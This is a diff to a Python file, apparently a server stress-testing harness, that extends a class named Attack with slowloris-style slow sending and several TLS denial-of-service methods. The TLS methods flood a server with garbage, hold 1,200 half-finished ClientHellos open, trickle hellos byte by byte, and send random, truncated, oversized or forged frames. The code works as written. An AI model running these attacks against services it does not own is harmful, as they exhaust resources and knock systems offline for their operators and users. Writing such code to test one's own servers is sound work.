@@ -11,12 +11,15 @@ from __future__ import annotations
 import os
 import select
 import socket
+import ssl
 import sys
 import time
 from collections.abc import Callable, Iterator
 from itertools import cycle
 
 INITIATION = bytes((1, 0, 0, 0)) + bytes(144)
+# A ClientHello of which the larger part never comes.
+HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200)
 
 
 def framed(message: bytes) -> bytes:
@@ -100,11 +103,14 @@ class Attack:
 
     def slowloris(self) -> None:
         """A byte now and then on each."""
+        self.trickle(framed(INITIATION))
+
+    def trickle(self, data: bytes) -> None:
         for _ in range(200):
             sock = self.connect()
             if sock is not None:
                 self.kept.append(sock)
-        for byte in framed(INITIATION):
+        for byte in data:
             for sock in self.kept:
                 self.say(sock, bytes((byte,)))
             if self.over:
@@ -125,6 +131,33 @@ class Attack:
             if sock is not None:
                 sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                 sock.close()
+
+    def tls_garbage(self) -> None:
+        """No TLS at all."""
+        self.again_and_again(lambda: HELLO[:5] + os.urandom(2000))
+
+    def tls_half_hellos(self) -> None:
+        self.at_once(1200, HELLO)
+
+    def tls_slow_hellos(self) -> None:
+        """A byte now and then on each."""
+        self.trickle(HELLO)
+
+    def tls_unknown(self) -> None:
+        """Shakes hands, and is nobody: garbage, half a frame, one that is too long, a forged one."""
+        context = ssl.create_default_context()
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        longest = b"\xff\xff" + bytes((4, 0, 0, 0)) + bytes(65531)
+        words = cycle((os.urandom(500), framed(INITIATION)[:50], longest, framed(INITIATION)))
+        while not self.over:
+            sock = self.connect()
+            if sock is not None:
+                try:
+                    with context.wrap_socket(sock) as tls:
+                        tls.sendall(next(words))
+                        tls.recv(1)
+                except OSError:
+                    pass
 
     def open_still(self) -> int:
         """How many of those that were kept are."""
